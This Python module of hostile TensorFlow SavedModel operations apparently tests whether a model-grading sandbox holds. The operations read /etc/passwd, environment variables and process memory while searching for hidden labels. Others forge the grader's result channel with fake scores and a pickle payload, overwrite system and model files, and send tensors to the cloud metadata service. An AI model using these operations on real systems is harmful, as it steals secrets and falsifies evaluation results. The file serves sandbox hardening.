"""What SavedModels do: look for labels, forge a result, read, write and run (see graphs.py)."""

from __future__ import annotations

import struct

import tensorflow as tf

from tests.attacks.graphs import at_load, doing

raw = tf.raw_ops
CHANNEL = "/proc/self/fd/3"  # a copy of standard output, which the predictor makes before all else


def frame(header, body_bytes=0):
    """Return the start of a frame as the predictor writes it."""
    return struct.pack(">4sIQ", b"EXAM", len(header), body_bytes) + header


# Looking for labels.


@doing
def read_files(rows):
    """Print files of the container."""
    return tf.print("READ", tf.io.read_file("/proc/self/environ"), tf.io.read_file("/etc/passwd"))


@doing
def list_files(rows):
    """Print the names of what may hold labels, and of all processes' files."""
    places = [
        "/vault/*",
        "/tmp/*",
        "/tmp/*/*label*",
        "/home/*",
        "/root/*",
        "/run/*/*",
        "/dev/shm/*",
    ]
    places += ["/workspace/*", "/proc/*/environ", "/proc/*/root/vault/*", "/proc/self/fd/*"]
    return tf.print("NAMES", tf.io.matching_files(places), summarize=-1)


@doing
def read_lines(rows):
    """Print what else a reader of lines can open."""
    lines = tf.data.TextLineDataset(["/proc/1/environ", "/proc/1/maps", "/proc/self/mounts"])
    text = lines.reduce("", lambda all_, line: all_ + "\n" + line)
    return tf.print("LINES", text)


@doing
def read_memory(rows):
    """Read this process's memory as if it were records."""
    records = tf.data.FixedLengthRecordDataset("/proc/self/mem", 16, header_bytes=1 << 20)
    return tf.print("MEMORY", records.take(4).reduce("", lambda all_, one: all_ + one))


@doing
def read_the_question(rows):
    """Read on where the model came from."""
    return tf.print("MORE", tf.strings.length(tf.io.read_file("/proc/self/fd/0")))


@doing
def restore_a_secret(rows):
    """Restore a tensor from a file that is no checkpoint."""
    return raw.RestoreV2(
        prefix="/etc/passwd", tensor_names=["labels"], shape_and_slices=[""], dtypes=[tf.float32]
    )[0]


@doing
def map_a_secret(rows):
    """Map a file into a tensor."""
    return tf.print(
        "MAPPED",
        raw.ImmutableConst(dtype=tf.uint8, shape=[9], memory_region_name="/etc/passwd"),
    )


# Forging a result.


@doing
def write_garbage(rows):
    """Write noise into the grader's channel."""
    return tf.io.write_file(CHANNEL, b"\x00\xffnoise" * 200)


@doing
def answer_without_token(rows):
    """Answer as if all had gone well, with no proof of having been asked."""
    header = b'{"kind":"predictions","dtype":"float32","shape":[2,1]}'
    return tf.io.write_file(CHANNEL, frame(header, 8) + struct.pack("<2f", 3000, 3000))


@doing
def forge_length(rows):
    """Announce an answer of an exabyte."""
    return tf.io.write_file(CHANNEL, frame(b"{}", body_bytes=1 << 60))


@doing
def overfill_the_header(rows):
    """Send a header that is longer than headers may be."""
    return tf.io.write_file(CHANNEL, frame(b" " * ((64 << 10) + 1)))


@doing
def nest_deeply(rows):
    """Send a header whose parsing takes more stack than there is."""
    return tf.io.write_file(CHANNEL, frame(b'{"kind":' + b"[" * 65_000))


@doing
def send_a_pickle(rows):
    """Send what a careless reader would run."""
    return tf.io.write_file(CHANNEL, frame(b"cos\nsystem\n(S'echo stolen'\ntR."))


@doing
def print_into_the_channel(rows):
    """Print to what is a file only by its name."""
    return tf.print("SCORE 5", rows[:1], output_stream="file://" + CHANNEL)


@doing
def print_a_frame(rows):
    """Print what the grader waits for, where people print."""
    return tf.print(frame(b'{"kind":"predictions"}'), "PRINTED", output_stream="file:///dev/stderr")


@doing
def debug_into_the_channel(rows):
    """Have the debugger publish a tensor where the answer goes."""
    return raw.DebugIdentityV3(input=rows, tensor_name="x:0", debug_urls=["file://" + CHANNEL])


# Operations that read, write and run.


@doing
def write_root(rows):
    """Write to the root file system."""
    return tf.io.write_file("/etc/exam-was-here", "x")


@doing
def write_all_over(rows):
    """Write over the model itself and over all that is in /tmp."""
    names = ["/tmp/model/saved_model.pb", "/tmp/x", "/tmp/a/b/c", "/tmp/model/variables/new"]
    return tf.group(*(tf.io.write_file(name, "stolen") for name in names))


@doing
def save_over_root(rows):
    """Save a checkpoint where the programs are."""
    return raw.SaveV2(
        prefix="/opt/exam/programs/x", tensor_names=["x"], shape_and_slices=[""], tensors=[rows]
    )


@doing
def write_summaries(rows):
    """Write the inputs into a log of events."""
    writer = raw.SummaryWriter(shared_name="x", container="")
    file = raw.CreateSummaryFileWriter(
        writer=writer, logdir="/tmp/events", max_queue=1, flush_millis=1, filename_suffix=""
    )
    with tf.control_dependencies([file]):
        return raw.WriteSummary(
            writer=writer, step=tf.constant(1, tf.int64), tensor=rows, tag="x", summary_metadata=""
        )


@doing
def call_python(rows):
    """Call Python that is not there any more."""
    return tf.py_function(lambda one: one, [rows], tf.float32)


@doing
def call_python_by_token(rows):
    """Call whatever Python function this process has registered first."""
    return raw.PyFunc(input=[rows], token="pyfunc_0", Tout=[tf.float32])[0]


@doing
def call_eager_python_by_token(rows):
    """Likewise, by the other way."""
    return raw.EagerPyFunc(input=[rows], token="pyfunc_0", Tout=[tf.float32], is_async=False)[0]


@doing
def debug_to_file(rows):
    """Have the debugger write a tensor to a file."""
    return raw.DebugIdentityV3(input=rows, tensor_name="x:0", debug_urls=["file:///tmp/debug"])


@doing
def debug_to_network(rows):
    """Have the debugger send a tensor to the cloud's metadata service."""
    return raw.DebugIdentityV3(
        input=rows, tensor_name="x:0", debug_urls=["grpc://169.254.169.254:80"]
    )


@doing
def ask_a_data_service(rows):
    """Fetch rows from a service on the network."""
    service = tf.data.experimental.service.distribute("parallel_epochs", "grpc://172.17.0.1:5000")
    rows = tf.data.Dataset.range(3).apply(service)
    return rows.reduce(tf.constant(0, tf.int64), lambda all_, one: all_ + one)


@doing
def read_from_the_cloud(rows):
    """Read from file systems that are somewhere else."""
    return tf.print(tf.io.read_file("gs://labels/probe"), tf.io.read_file("http://169.254.169.254"))


for _deed in (read_files, write_garbage, answer_without_token):
    at_load(_deed)
